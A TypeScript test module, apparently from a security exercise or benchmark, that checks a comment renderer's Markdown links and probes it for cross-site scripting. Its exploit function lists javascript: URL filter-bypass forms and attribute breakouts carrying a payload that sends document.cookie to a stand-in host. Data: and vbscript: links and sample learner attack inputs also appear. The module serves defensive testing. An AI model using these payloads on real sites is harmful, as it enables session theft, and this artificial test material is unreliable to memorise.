import assert from 'node:assert/strict'
import vm from 'node:vm'
import { scriptsOf, tagsOf } from '#proof/page'
import type { Breach, Vary } from '#proof/vary'

type Code = typeof import('./typescript/render-comment.ts')

const render = ({ renderComment }: Code, source: string, vary: Vary, author = vary.name()) =>
  renderComment({ id: vary.number(1, 999), author, writtenAt: new Date(vary.number(0, 1e12)), source })

/** What the text of a link may be, for everybody. */
const createLabel = (vary: Vary) => vary.pick([`${vary.name()}'s guide`, 'release notes', `the ${vary.word()}`])

export async function works(code: Code, vary: Vary) {
  const label = createLabel(vary)
  const path = vary.pick([vary.word(), `javascript:${vary.word()}`, `location=${vary.word()}+document.cookie`])
  const address = `https://${vary.pick(['', `${vary.word()}.`])}example.com/${path}?a=${vary.number(1, 9)}&b=javascript:`
  const person = `${vary.word()}-h`
  const author = `${vary.name()} <${vary.word()}@example.com>`
  const html = await render(code, `See [${label}](${address}), \`a<b>\` and\nask @${person}.\n\n<b>Bye</b>`, vary, author)
  const tags = tagsOf(html)
  const links = tags.filter(({ name }) => name === 'a').map(({ attributes, text }) => [attributes.href, text])
  assert.deepEqual(links[0], [address, label], `"${label}" should link to ${address}.`)
  assert.deepEqual(links[1], [`/people/${person}`, `@${person}`], `@${person} should link to that person.`)
  assert.equal(links.length, 2, 'The comment should have two links.')
  for (const scheme of ['http', 'https']) {
    const whole = `${scheme}://${vary.word()}.example.com/${vary.word()}`
    const found = tagsOf(await render(code, `[${label}](${whole})`, vary)).filter(({ name }) => name === 'a')
    assert.deepEqual(found.map(({ attributes, text }) => [attributes.href, text]), [[whole, label]], `"${label}" should link to ${whole}.`)
  }
  const pair = [`https://${vary.word()}.example.com/a`, `http://${vary.word()}.example.com/b`]
  const both = tagsOf(await render(code, `[one](${pair[0]}) and [two](${pair[1]})`, vary)).filter(({ name }) => name === 'a')
  assert.deepEqual(both.map(({ attributes }) => attributes.href), pair, 'Two links in one comment should both be links.')
  assert.equal(tags.find(({ name }) => name === 'code')?.text, 'a<b>', 'Text between backticks should be shown as code.')
  assert.equal(tags.filter(({ name }) => name === 'p').length, 2, 'An empty line should begin a new paragraph.')
  assert.ok(html.includes('&lt;b&gt;Bye'), 'HTML in a comment should be shown as text.')
  assert.equal(tags.find(({ name }) => name === 'header')?.text.trim(), author, `The author ${author} should be shown.`)
}

/** Does what a browser does with a handler, or at a click on a `javascript:` link: parses the address, decodes the rest and runs it. */
function run(script: string, cookie: string): string {
  const page = { location: '', document: { cookie } }
  const address = URL.parse(script)
  const isAddress = address?.protocol === 'javascript:'
  try {
    vm.runInNewContext(isAddress ? decodeURIComponent(address.href.slice('javascript:'.length)) : script, page)
  } catch {
    // Not a script that runs.
  }
  return page.location
}

const formsOf = (steal: string, host: string) => [
  `javascript:${steal}`,
  `JavaScript:${steal}`,
  `\u0001javascript:${steal}`,
  `\u0000\u001fjavascript:${steal}`,
  `javascript://${host}/%0a${steal}`,
  `JAVASCRIPT://https://${host}/%0a${steal}`,
  `javascript:/*https://${host}/*/${steal}`,
  `javascript:'https://';${steal}`,
  `javascript&colon;${steal}`,
  `https://${host}/"onmouseover="${steal}`,
  `https://${host}/'onmouseover='${steal.replaceAll("'", '`')}`,
]

export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
  const cookie = `session=${vary.text(12)}`
  const host = `${vary.pick(['', `${vary.word()}.`])}example.com`
  for (const target of payloads ?? vary.shuffle(formsOf(`location='https://${vary.word()}.example/?'+document.cookie`, host))) {
    const comment = `${vary.pick(['See', vary.word()])} [${createLabel(vary)}](${target})`
    let scripts: string[] = []
    try {
      scripts = scriptsOf(await render(code, comment, vary))
    } catch {
      // Refused; the next form may be not.
    }
    const opened = scripts.map((script) => run(script, cookie)).find((address) => address.endsWith(cookie))
    if (opened) return { sent: `the comment ${JSON.stringify(comment)}`, got: `a page in which a click opens ${opened}`, damage: 'The script in the address has read the cookie of the person who clicked, and sends their session to the attacker.' }
  }
  // Other addresses that are programs, or pages, themselves.
  for (const target of payloads ? [] : vary.shuffle([`data:text/html;base64,${Buffer.from(`<script>${vary.word()}()</script>`).toString('base64')}`, `DATA:text/html,${vary.word()}`, `vbscript:${vary.word()}`])) {
    const comment = `[${createLabel(vary)}](${target})`
    const html = await Promise.try(() => render(code, comment, vary)).catch(() => '')
    const link = tagsOf(html).find(({ name, attributes }) => name === 'a' && /^\s*(data|vbscript):/i.test(attributes.href ?? ''))
    if (link) return { sent: `the comment ${JSON.stringify(comment)}`, got: `a link to ${link.attributes.href}`, damage: 'The address is itself a page or a program that the author of the comment wrote. Links lead to pages with https: or http: only.' }
  }
  return false
}

/** A script whose brackets were cut off runs nothing. */
function isComplete(script: string): boolean {
  const open: string[] = []
  const closing: Record<string, string> = { ')': '(', ']': '[', '}': '{' }
  for (const sign of decodeURIComponent(script.replace(/%(?![0-9a-f]{2})/gi, '%25')).replace(/(["'`])(?:\\.|(?!\1)[^\\])*\1/g, '')) {
    if ('([{'.includes(sign)) open.push(sign)
    else if (sign in closing && open.pop() !== closing[sign]) return false
  }
  return open.length === 0
}

// Attack mode: the learner writes the input.
export async function attack({ renderComment }: Code, input: { comment: string }, vary: Vary) {
  try {
    const html = await renderComment({ id: vary.number(10, 99), author: vary.name(), writtenAt: new Date(0), source: input.comment })
    const scripts = scriptsOf(html)
    const lines = scripts.map((script) => (isComplete(script) ? `A click runs: ${script}` : `A click fails with a syntax error: ${script}`))
    return { isDone: scripts.some(isComplete), shown: [html, '', ...(lines.length > 0 ? lines : ['Nothing in this page runs a script.'])].join('\n') }
  } catch (error) {
    return { isDone: false, shown: String(error) }
  }
}

export const attacks = [
  { input: { comment: 'See [the guide](JavaScript:alert(1))' }, isDone: false },
  { input: { comment: 'See [the guide](javascript:alert%28document.cookie%29).' }, isDone: true },
  { input: { comment: 'See [the guide](JavaScript:location=name).' }, isDone: true },
  { input: { comment: 'See [the guide](https://example.com/guide).' }, isDone: false },
  { input: { comment: '<script>alert(1)</script>' }, isDone: false },
]
